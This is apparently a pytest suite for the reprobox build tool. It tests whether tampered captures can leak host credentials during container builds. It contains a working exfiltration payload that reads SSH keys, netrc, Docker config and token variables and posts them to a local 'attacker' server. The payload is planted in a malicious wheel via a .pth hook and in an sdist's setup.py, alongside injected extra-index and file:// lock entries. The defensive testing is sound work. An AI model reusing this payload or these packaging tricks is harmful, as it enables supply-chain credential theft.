"""A stranger's capture, built for real: package code never meets a credential or the host.

The hostile captures are made with reprobox's real capture code from a real project, then edited
as an attacker would and re-sealed (:func:`reseal`) so that their ids match. Checked here, with
the real Docker daemon and the real package index:

* an ``--extra-index-url`` line and a pin environment.json does not list are refused (exit 2),
  naming the file, the line and the option or package;
* a published wheel whose ``.pth`` runs at every interpreter start and an old-style sdist whose
  ``setup.py`` runs at build time, both of which look for ``/run/secrets/*``, index variables and
  ``~/.netrc`` and post what they find to an attacker's HTTP server on 127.0.0.1, run during the
  build (their report is in the image) and find nothing: the server records no request and the
  canary credential is in no layer, config or history entry of the image (``docker save``, both
  the ``layer.tar`` and the OCI ``blobs/sha256`` layouts);
* the sdist's build backend (setuptools, wheel) came from the host's wheelhouse and is named;
* ``[tool.reprobox] base-image`` in the checkout is ignored with a warning;
* a ``file://`` archive outside the repository is refused naming the package, and the canary
  file it names is never copied into the build context; a ``file://`` URL in pylock.toml (with
  the file's own sha256 added to the lock) is never read: the host looks files up on its own
  indexes by name and version;
* the wheelhouse is content-addressed: a second build fetches nothing;
* the venv backend installs offline from the wheelhouse (the index is unreachable meanwhile).
"""

from __future__ import annotations

import base64
import hashlib
import http.server
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import threading
import uuid
import zipfile
from pathlib import Path
from typing import Iterator

import pytest

from reprobox.build import build_experiment
from reprobox.engine import get_engine
from reprobox.model import Package, PackageSource
from reprobox.store import Store

from ..hostile import reseal as hostile_reseal
from ..saved_image import image_files
from .test_build_real import DOCKER, _capture, base_image, project  # noqa: F401 - fixtures

pytestmark = [pytest.mark.docker, pytest.mark.network]


# --------------------------------------------------------------------------- the attacker


class Attacker:
    """A real HTTP server on 127.0.0.1 that records every request made to it."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length).decode(errors="replace") if length else ""
                outer.requests.append(f"{self.command} {self.path} {body}")
                self.send_response(200)
                self.end_headers()

            do_GET = do_POST = _record  # noqa: N815

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


class FileServer:
    """Serves one file on 127.0.0.1 and records the headers of every request."""

    def __init__(self, path: Path) -> None:
        self.headers: list[dict[str, str]] = []
        outer, body = self, path.read_bytes()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                outer.headers.append(dict(self.headers))
                self.send_response(200 if self.path == f"/{path.name}" else 404)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/{path.name}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


PAYLOAD = """
import json, os, urllib.request
found = {}
for folder in ("/run/secrets", "/run/secrets/"):
    try:
        for name in os.listdir(folder):
            try:
                found[name] = open(os.path.join(folder, name)).read()
            except Exception as exc:
                found[name] = repr(exc)
    except Exception:
        pass
for path in ("~/.netrc", "~/.docker/config.json", "~/.ssh/id_rsa", "~/.config/pip/pip.conf"):
    try:
        found[path] = open(os.path.expanduser(path)).read()
    except Exception:
        pass
env = {k: v for k, v in os.environ.items()
       if any(s in k.upper() for s in ("PIP", "UV_", "PROXY", "TOKEN", "NETRC", "SSL"))}
report = json.dumps({"who": WHO, "found": found, "env": env})
try:
    urllib.request.urlopen("http://127.0.0.1:PORT/steal", data=report.encode(), timeout=3)
except Exception:
    pass
if os.path.isdir("/tmp/reprobox"):  # inside an image build: leave the evidence in the image
    os.makedirs("/evil", exist_ok=True)
    with open("/evil/%s-%d.json" % (WHO, os.getpid()), "w") as fh:
        fh.write(report)
"""


def _payload(who: str, port: int) -> str:
    return PAYLOAD.replace("WHO", repr(who)).replace("PORT", str(port))


def _record_line(name: str, data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{name},sha256={digest},{len(data)}"


def make_wheel(folder: Path, name: str, files: dict[str, bytes]) -> Path:
    """A pure ``<name> 1.0`` wheel holding ``files``, with a valid RECORD."""
    files = {
        **files,
        f"{name}-1.0.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\n"
        "Version: 1.0\n".encode(),
        f"{name}-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: test\n"
        b"Root-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "\n".join(_record_line(n, d) for n, d in files.items())
    record += f"\n{name}-1.0.dist-info/RECORD,,\n"
    path = folder / f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as zf:
        for member, data in files.items():
            zf.writestr(member, data)
        zf.writestr(f"{name}-1.0.dist-info/RECORD", record)
    return path


def evil_wheel(folder: Path, port: int) -> Path:
    """``evilpth 1.0``: a pure wheel whose ``.pth`` file imports its payload at every start."""
    return make_wheel(
        folder,
        "evilpth",
        {
            "evilpth_hook.py": _payload("pth", port).encode(),
            "evilpth.pth": b"import evilpth_hook\n",
        },
    )


def evil_sdist(folder: Path, port: int) -> Path:
    """``evilsdist 1.0``: an old-style sdist (setup.py only) whose build runs the payload."""
    setup = _payload("setup", port) + (
        "\nfrom setuptools import setup\nsetup(name='evilsdist', version='1.0', py_modules=[])\n"
    )
    pkg_info = b"Metadata-Version: 1.0\nName: evilsdist\nVersion: 1.0\n"
    path = folder / "evilsdist-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for name, data in (
            ("evilsdist-1.0/setup.py", setup.encode()),
            ("evilsdist-1.0/PKG-INFO", pkg_info),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def reseal(
    store: Store,
    exp_id: str,
    *,
    packages: tuple[Package, ...] = (),
    files: dict[str, bytes] | None = None,
) -> str:
    """An edited copy of an experiment, sealed again so its id matches, as an attacker can.

    ``packages`` are added to environment.json (the environment digest follows), ``files``
    replace files of the experiment folder. The original stays as it was (other tests use it).
    Returns the new id.
    """
    stored = store.load(exp_id)
    copy = stored.path.parent / f"edit-{uuid.uuid4().hex[:8]}"
    shutil.copytree(stored.path, copy)
    for name, data in (files or {}).items():
        (copy / name).write_bytes(data)
    added = [p.to_dict() for p in packages]

    def add_packages(doc: dict) -> None:
        doc["packages"] = sorted(doc["packages"] + added, key=lambda p: p["name"])

    return hostile_reseal(copy, environment=add_packages if packages else None)


def cli(*args: str, cwd: Path, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "reprobox.cli", *args],
        cwd=cwd,
        env=env or os.environ.copy(),
        capture_output=True,
        text=True,
        timeout=900,
    )


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    yield server
    server.close()


@pytest.fixture(scope="module")
def captured(project: Path) -> str:  # noqa: F811 - the fixture imported above
    return _capture(project)


@pytest.fixture
def house(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path_factory.mktemp("wheelhouse")
    monkeypatch.setenv("REPROBOX_WHEELHOUSE", str(folder))
    return folder


# --------------------------------------------------------------------------- refusals


def test_an_extra_index_and_an_unlisted_pin_are_refused_naming_the_line(
    project: Path, captured: str, attacker: Attacker
) -> None:  # noqa: F811
    store = Store(project)
    original = store.load(captured).file("requirements.lock")
    lock = original.read_text()
    try:
        evil = f"--extra-index-url http://127.0.0.1:{attacker.port}/simple\n"
        hostile = reseal(store, captured, files={"requirements.lock": (evil + lock).encode()})
        done = cli("build", hostile, cwd=project)
        assert done.returncode == 2, done.stderr
        assert "requirements.lock line 1: the option '--extra-index-url'" in done.stderr
        assert "Traceback" not in done.stderr

        pin = f"evilpkg==6.6.6 \\\n    --hash=sha256:{'e' * 64}\n"
        hostile = reseal(store, captured, files={"requirements.lock": (lock + pin).encode()})
        done = cli("build", hostile, cwd=project)
        assert done.returncode == 2, done.stderr
        line = len(lock.splitlines()) + 1
        assert (
            f"requirements.lock line {line}: the package 'evilpkg' is not in "
            "environment.json" in done.stderr
        )
        assert attacker.requests == []
    finally:  # the capture itself is untouched: the attack works on sealed copies
        assert original.read_text() == lock


def test_a_file_archive_outside_the_repository_is_never_read(
    project: Path, captured: str, tmp_path: Path, house: Path
) -> None:  # noqa: F811
    canary = f"canary-ssh-key-{uuid.uuid4().hex}"
    secret = tmp_path / "home" / ".ssh" / "id_rsa"
    secret.parent.mkdir(parents=True)
    secret.write_text(canary)
    store = Store(project)
    hostile = reseal(
        store,
        captured,
        packages=(Package("stealer", "1.0", PackageSource("archive", url=f"file://{secret}")),),
    )
    done = cli("build", hostile, cwd=project)
    assert done.returncode == 2, done.stderr
    assert "package stealer" in done.stderr and "outside the repository" in done.stderr
    from reprobox.build.context import context_dir

    ctx = context_dir(project)
    if ctx.exists():
        for path in ctx.rglob("*"):
            if path.is_file() and not path.is_symlink():
                assert canary.encode() not in path.read_bytes(), path
    assert not any(canary.encode() in p.read_bytes() for p in house.rglob("*") if p.is_file())


def test_pylock_urls_are_never_fetched_or_copied(
    project: Path, captured: str, tmp_path: Path, house: Path
) -> None:  # noqa: F811
    """pylock.toml names a host file (with its very sha256, and the lock accepts that hash):
    the host still looks every file up on its own indexes by name and version only."""
    canary = f"canary-docker-config-{uuid.uuid4().hex}"
    secret = tmp_path / "home" / ".docker" / "config.json"
    secret.parent.mkdir(parents=True)
    secret.write_text(canary)
    digest = sha256(secret)
    store = Store(project)
    folder = store.load(captured).path
    lock, pylock = (folder / "requirements.lock").read_text(), (folder / "pylock.toml").read_text()
    hostile_lock = lock.replace("attrs==23.2.0 \\", f"attrs==23.2.0 --hash=sha256:{digest} \\")
    assert hostile_lock != lock
    hostile_pylock = pylock + (
        f'\n[[packages]]\nname = "attrs"\nversion = "23.2.0"\nwheels = [\n  {{name = '
        f'"attrs-23.2.0-py3-none-any.whl", url = "file://{secret}", hashes = {{sha256 = '
        f'"{digest}"}}}},\n]\n'
    )
    tag = f"reprobox-test/pylock:{uuid.uuid4().hex[:8]}"
    try:
        hostile = reseal(
            store,
            captured,
            files={
                "requirements.lock": hostile_lock.encode(),
                "pylock.toml": hostile_pylock.encode(),
            },
        )
        result = build_experiment(store, store.load(hostile), tag=tag)
        needle = canary.encode()
        assert not any(needle in p.read_bytes() for p in house.rglob("*") if p.is_file())
        assert not any(
            needle in p.read_bytes()
            for p in Path(result.context or "").rglob("*")
            if p.is_file() and not p.is_symlink()
        )
        for name, data in image_files(tag, tmp_path, DOCKER):
            assert needle not in data, name
    finally:
        (folder / "requirements.lock").write_text(lock)
        (folder / "pylock.toml").write_text(pylock)
        get_engine().remove_image(tag)


# --------------------------------------------------------------------------- the hostile build


@pytest.fixture(scope="module")
def hostile_build(
    project: Path,
    captured: str,
    attacker: Attacker,  # noqa: F811
    base_image: str,
    tmp_path_factory: pytest.TempPathFactory,  # noqa: F811
) -> Iterator[dict]:
    """The capture plus two hostile packages from a source this machine's pip is configured
    with (as a package published on the public index would be), built with a canary index
    credential and a canary netrc on the host."""
    tmp = tmp_path_factory.mktemp("hostile")
    links = tmp / "published"
    links.mkdir()
    wheel, sdist = evil_wheel(links, attacker.port), evil_sdist(links, attacker.port)
    canary = f"canary-{uuid.uuid4().hex}"
    from reprobox.lock import read_index_config

    real = read_index_config()
    scheme, rest = real.index_url.split("://", 1)
    home = tmp / "home"
    home.mkdir()
    (home / ".netrc").write_text(
        f"machine pypi.org login reprobox-test password {canary}\n"
        f"machine 127.0.0.1 login reprobox-test password {canary}\n"
    )
    plain = make_wheel(tmp, "plainblob", {"plainblob.py": b"VALUE = 1\n"})
    served = FileServer(plain)
    os.chmod(home / ".netrc", 0o600)
    patch = pytest.MonkeyPatch()
    patch.setenv("PIP_INDEX_URL", f"{scheme}://reprobox-test:{canary}@{rest}")
    patch.setenv("PIP_FIND_LINKS", " ".join((str(links), *real.find_links)))
    patch.setenv("NETRC", str(home / ".netrc"))
    patch.setenv("REPROBOX_WHEELHOUSE", str(tmp / "wheelhouse"))
    # the checkout asks for another base image: it must be ignored
    pyproject = project / "pyproject.toml"
    original = pyproject.read_text()
    pyproject.write_text(original + '\n[tool.reprobox]\nbase-image = "evil.example/x:1"\n')

    store = Store(project)
    lock = store.load(captured).file("requirements.lock").read_text()
    pins = (
        f"evilpth==1.0 \\\n    --hash=sha256:{sha256(wheel)}\n"
        f"evilsdist==1.0 \\\n    --hash=sha256:{sha256(sdist)}\n"
    )
    hostile = reseal(
        store,
        captured,
        packages=(
            Package("evilpth", "1.0", wheel_tags=("py3-none-any",)),
            Package("evilsdist", "1.0"),
            # an archive URL with no recorded hash: fetched without credentials, named unverified
            Package("plainblob", "1.0", PackageSource("archive", url=served.url)),
        ),
        files={"requirements.lock": (lock + pins).encode()},
    )
    tag = f"reprobox-test/hostile:{uuid.uuid4().hex[:8]}"
    lines: list[str] = []
    try:
        first = build_experiment(
            store,
            store.load(hostile),
            tag=tag,
            progress=lines.append,
            no_cache=True,
            cache_id=f"hostile-{uuid.uuid4().hex[:8]}",
        )
        second = build_experiment(store, store.load(hostile), tag=tag)
        yield {
            "first": first,
            "second": second,
            "tag": tag,
            "canary": canary,
            "log": lines,
            "tmp": tmp,
            "wheelhouse": tmp / "wheelhouse",
            "served": served,
        }
    finally:
        served.close()
        pyproject.write_text(original)
        patch.undo()
        get_engine().remove_image(tag)


def test_package_code_ran_in_the_build_and_found_no_secret(
    hostile_build: dict, attacker: Attacker
) -> None:
    tag, canary = hostile_build["tag"], hostile_build["canary"]
    out = subprocess.run(
        [
            DOCKER,
            "run",
            "--rm",
            "--network",
            "none",
            "--entrypoint",
            "sh",
            tag,
            "-c",
            "cat /evil/*.json",
        ],
        capture_output=True,
        text=True,
        check=True,
    )
    reports = [
        json.loads(line) for line in out.stdout.replace("}{", "}\n{").splitlines() if line.strip()
    ]
    # the payloads did run: the sdist's setup.py and the .pth at an interpreter start
    assert {r["who"] for r in reports} == {"pth", "setup"}, out.stdout
    for report in reports:
        assert report["found"] == {}, report
        assert not any(canary in v for v in report["env"].values()), report
    assert attacker.requests == []


def test_the_canary_is_in_no_layer_config_or_history(hostile_build: dict, tmp_path: Path) -> None:
    tag, needle = hostile_build["tag"], hostile_build["canary"].encode()
    names = []
    for name, data in image_files(tag, tmp_path, DOCKER):
        names.append(name)
        assert needle not in data, f"the canary is in {name}"
    assert any(n.endswith("layer.tar") or n.startswith("blobs/sha256/") for n in names)
    for argv in (["history", "--no-trunc", tag], ["image", "inspect", tag]):
        text = subprocess.run([DOCKER, *argv], check=True, capture_output=True, text=True).stdout
        assert hostile_build["canary"] not in text
    # no step that installs Python packages mounted a secret
    history = subprocess.run(
        [DOCKER, "history", "--no-trunc", "--format", "{{.CreatedBy}}", tag],
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    for step in history.splitlines():
        if "pip install" in step or "uv pip install" in step:
            assert "secret" not in step and "--no-index" in step, step


def test_the_checkout_does_not_choose_the_base_and_the_backend_is_named(
    hostile_build: dict,
) -> None:
    first = hostile_build["first"]
    assert first.base_source == "auto" and "evil.example" not in first.base_image
    assert any("pyproject.toml is ignored" in w for w in first.warnings)
    assert {a.split(" ")[0] for a in first.added} == {"setuptools", "wheel"}
    assert any("added to build sdists offline: setuptools" in line for line in hostile_build["log"])


def test_an_unhashed_archive_is_fetched_without_credentials_and_named_in_the_verdict(
    hostile_build: dict,
) -> None:
    from reprobox.backends import Prepared
    from reprobox.build import unverified_notes

    first = hostile_build["first"]
    assert [u.split(" ")[0] for u in first.unverified] == ["plainblob"]
    assert any(w.startswith("unverified: plainblob 1.0") for w in first.warnings)
    served = hostile_build["served"]
    assert len(served.headers) == 1  # fetched once; the second build took it from the wheelhouse
    assert all("Authorization" not in h for h in served.headers), served.headers
    prepared = Prepared("docker", hostile_build["tag"], "image", True, "python")
    [note] = unverified_notes(prepared)
    assert note.startswith("unverified: plainblob-1.0-py3-none-any.whl has no hash")


def test_the_wheelhouse_is_content_addressed_and_a_second_build_fetches_nothing(
    hostile_build: dict,
) -> None:
    first, second = hostile_build["first"], hostile_build["second"]
    assert first.fetched > 0 and second.fetched == 0
    root = hostile_build["wheelhouse"] / "sha256"
    for folder in root.iterdir():
        [stored] = list(folder.iterdir())
        assert hashlib.sha256(stored.read_bytes()).hexdigest() == folder.name


def test_the_venv_backend_installs_offline_from_the_wheelhouse(
    project: Path,
    captured: str,
    house: Path,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    from reprobox.backends.venv import VenvBackend

    store = Store(project)
    stored = store.load(captured)
    # warm the wheelhouse from the real index, then make every index unreachable
    backend = VenvBackend(tmp_path / "venvs1")
    backend.release(backend.prepare(store, stored, project))
    assert any(p.name.startswith("attrs-23.2.0") for p in house.rglob("*.whl"))
    monkeypatch.setenv("PIP_INDEX_URL", "http://127.0.0.1:9/simple")
    monkeypatch.setenv("PIP_FIND_LINKS", str(tmp_path / "nothing"))
    monkeypatch.setenv("PIP_EXTRA_INDEX_URL", "")
    messages: list[str] = []
    offline = VenvBackend(tmp_path / "venvs2")
    prepared = offline.prepare(store, stored, project, progress=messages.append)
    try:
        python = prepared.python
        out = subprocess.run(
            [python, "-c", "import attr, six; print(attr.__version__)"],
            capture_output=True,
            text=True,
            check=True,
        ).stdout.strip()
        assert out == "23.2.0"
        assert any("0 fetched" in m for m in messages), messages
    finally:
        offline.release(prepared)
